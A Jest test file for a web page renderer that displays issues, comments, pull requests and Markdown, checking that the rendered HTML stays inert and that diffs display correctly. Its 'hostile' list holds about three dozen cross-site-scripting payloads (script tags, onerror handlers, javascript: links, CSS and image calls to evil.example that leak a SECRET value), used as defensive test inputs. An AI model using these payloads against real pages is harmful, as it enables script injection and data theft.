import { describe, expect, test } from "@jest/globals";
import { renderChanges } from "../../demo/page/diff.ts";
import { renderMarkdown } from "../../demo/page/markdown.ts";
import { renderPage } from "../../demo/page/page.ts";
import { sample } from "./page-sample.ts";

/** Every tag and attribute that a page may hold; anything else that a browser would read as one fails. */
const known =
  /^<(?:!doctype html|\/?(?:html|head|body|main|header|nav|section|article|div|p|span|b|i|a|h[1-6]|ul|ol|li|table|thead|tbody|tr|th|td|pre|code|blockquote|details|summary|sub|br|hr|strong|em|del|mark|title|style|time|input|meta|svg|g|rect|path|text)(?: [a-z-]+(?:="[^"<>]*")?)*\/?)>$/i;

function foreign(html: string): string[] {
  const wrong = (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !known.test(tag));
  // Without the values, because a harmless value may hold any words.
  const bare = (html.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/="[^"]*"/g, "="));
  const acting = bare.filter((tag) => /\s(?:on\w+|style|src|srcset|action|formaction|data)=/i.test(tag));
  const addresses = [...html.matchAll(/\shref="([^"]*)"/g)].map(([, url]) => url!);
  return [...wrong, ...acting, ...addresses.filter((url) => !/^(?:https?:\/\/|#[a-z-]+$)/.test(url))];
}

const hostile = [
  "<script>alert(1)</script>",
  "a <script>alert('<b>')</script> b",
  '<img src=x onerror="alert(1)">',
  '"onerror=alert(1) x="',
  "[x](javascript:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](//evil.example)",
  "[x](https://github.com@evil.example/)",
  "<javascript:alert(1)>",
  '[x](https://e.example/"onmouseover="alert(1))',
  '[x](https://e.example "t\\" onclick=alert(1)")',
  "![a](https://evil.example/?d=SECRET)",
  '![a" onerror="alert(1)](x)',
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><style>*{display:none}</style></svg>",
  "<style>body{background:url(https://evil.example)}</style>",
  '<details open ontoggle=alert(1)><summary style="position:fixed">x</summary></details>',
  "<details>\n\nnever closed",
  "</details></div></section></main>",
  "<sub>**a</sub>b**",
  "<!-- a --><script>x</script><!-- b",
  "<!--><script>x</script>-->",
  "<iframe srcdoc='<script>x</script>'>",
  "<a href=javascript:alert(1)>x</a>",
  "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
  "</style><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  '```mermaid\nflowchart LR\n  a["</text><script>x</script>"] -->|"<img src=x onerror=y>"| b\n```',
  '```"><script>x</script>\n<script>\n```',
  "`<script>` ~~<script>~~",
  "| <script> |\n|---|\n| <img onerror=x> |",
  "<pre><script>x</script>\n\n</pre>",
  "a <kbd><b onclick=x>y</b></kbd>",
  "# <script>x</script>",
  "\0<scr\0ipt>\ud800",
];

describe("a page", () => {
  test.each(hostile)("lets nothing act in %j", (text) => {
    const html = renderPage({
      repository: `o/${text}`,
      notice: text,
      issue: { number: 1, title: text, author: text, body: text },
      comments: [{ author: text, app: true, body: text, createdAt: text, reactions: [text, "eyes"] }],
      pullRequest: { number: 2, title: text, body: text, draft: true, head: text, base: text, commit: text },
      changes: [{ path: text, before: `${text}\n`, after: `${text}x\n` }],
    });
    expect(foreign(html.replace(/<style>[\s\S]*?<\/style>/, "<style></style>"))).toEqual([]);
    expect(html.match(/<style>/g)).toHaveLength(1);
    expect(html).not.toContain("url(https://evil.example)}</style>");
  });

  test("shows the issue, the talk, the pull request and the files in that order", () => {
    const html = renderPage(sample);
    const order = [
      "Config: accept",
      "commented",
      "Done: ",
      "opened this pull request",
      "Files changed</h2>",
      "src/config.ts</span>",
    ];
    const found = order.map((text) => html.lastIndexOf(text));
    expect(found.every((at) => at > 0)).toBe(true);
    expect(found).toEqual(found.toSorted((a, b) => a - b));
    expect(html).toContain("default-src 'none'; style-src 'sha256-");
    expect(foreign(html)).toEqual([]);
    expect(html).not.toContain("coderag:v1");
  });

  test("leaves out what a run did not make", () => {
    const { pullRequest: _, notice: __, ...rest } = sample;
    const html = renderPage({ ...rest, comments: [], changes: [] });
    for (const absent of ['id="pull-request"', 'id="files"', 'class="notice"'])
      expect(html).not.toContain(absent);
  });
});

describe("Markdown", () => {
  const check = (markdown: string, expected: string): void =>
    expect(renderMarkdown(markdown).replace(/\n/g, "")).toBe(expected);

  test.each([
    ["a\nb", "<p>a<br>b</p>"],
    ["a &lt; b & c < d", "<p>a &lt; b &amp; c &lt; d</p>"],
    [
      "[a](http://x.example/?a=1&b=2)",
      '<p><a href="http://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">a</a></p>',
    ],
    ["[a](http://127.0.0.1:1/x)", '<p><span class="link" title="http://127.0.0.1:1/x">a</span></p>'],
    ["[**a**](ftp://x.example)", "<p><strong>a</strong></p>"],
    ["![a cat](https://x.example/c.png)", '<p><span class="picture">picture: a cat</span></p>'],
    [
      "- [x] a\n- [ ] b",
      '<ul><li class="task"><input type="checkbox" disabled checked> a</li><li class="task"><input type="checkbox" disabled> b</li></ul>',
    ],
    ["> [!NOTE]\n> hi", '<div class="alert note"><p class="alert-title">Note</p><p>hi</p></div>'],
    ["> [!NOTED]\n> hi", "<blockquote><p>[!NOTED]<br>hi</p></blockquote>"],
    ["a <!-- gone --> b", "<p>a  b</p>"],
    [
      "<details><summary>A</summary>\n\n- b\n\n</details>",
      "<details><summary>A</summary><ul><li>b</li></ul></details>",
    ],
    ["a<br/>b <sub>c</sub> <sup>d</sup>", "<p>a<br/>b <sub>c</sub> &lt;sup&gt;d&lt;/sup&gt;</p>"],
    ["</details> a", "&lt;/details&gt; a"],
    [
      "|a|b|\n|-|-:|\n|1|2|",
      '<div class="wide"><table><thead><tr><th>a</th><th class="right">b</th></tr></thead><tbody><tr><td>1</td><td class="right">2</td></tr></tbody></table></div>',
    ],
    [
      "```diff\n+a\n-b\n```",
      '<pre><code><span class="ins">+a</span><span class="del">-b</span></code></pre>',
    ],
    ["```mermaid\npie\n```", "<pre><code>pie</code></pre>"],
    ["`a\u202eb`", '<p><code>a<span class="unseen">U+202E</span>b</code></p>'],
  ])("%j", check);

  test.each(["> ".repeat(20_000), "- ".repeat(20_000), "1. ".repeat(9_000)])(
    "survives deep nesting",
    (text) => expect(renderMarkdown(`${text}a`)).toContain("<pre><code>"),
  );

  test("survives lists indented as deep as a body allows", () => {
    const text = Array.from({ length: 350 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n");
    expect(renderMarkdown(text).match(/<li>/g)!.length).toBeGreaterThan(300);
  });
});

describe("files changed", () => {
  const cells = (html: string): string[] =>
    [...html.matchAll(/<tr class="(\w+)">(.*?)<\/tr>/g)].map(
      ([, kind, row]) =>
        `${kind} ${row!
          .replace(/<mark>/g, "{")
          .replace(/<\/mark>/g, "}")
          .replace(/<[^>]+>/g, "|")
          .replace(/\|+/g, "|")}`,
    );

  test("numbers both sides, marks what differs, and is not misled by lines that look like a header", () => {
    const before = "x\n-- old\ny\nkeep the name\nz\n";
    const html = renderChanges([{ path: "a", before, after: "x\ny\nkeep the same\nz" }]);
    expect(cells(html)).toEqual([
      "hunk |@@ -1,5 +1,4 @@|",
      "same |1|1| |x|",
      "del |2|-|-- old|",
      "same |3|2| |y|",
      "del |4|-|keep the {n}ame|",
      "del |5|-|z|",
      "add |3|+|keep the {s}ame|",
      "add |4|+|z|",
      "note |No newline at the end of the file|",
    ]);
  });

  test.each([
    [{ path: "n", before: undefined, after: "a\n" }, ["new file", "+1", "−0"]],
    [{ path: "d", before: "a\n", after: undefined }, ["deleted", "+0", "−1"]],
    [{ path: "e", before: undefined, after: "" }, ["new file", "An empty file."]],
    [{ path: "cr", before: "a\r\n", after: "a\n" }, ['<span class="unseen">CR</span>']],
    [
      { path: "long", before: undefined, after: "a\n".repeat(5_000) },
      ["2001 more lines are not shown", '<details class="file"><'],
    ],
  ])("%#", (change, parts) => {
    const html = renderChanges([change]);
    for (const part of parts) expect(html).toContain(part);
  });
});
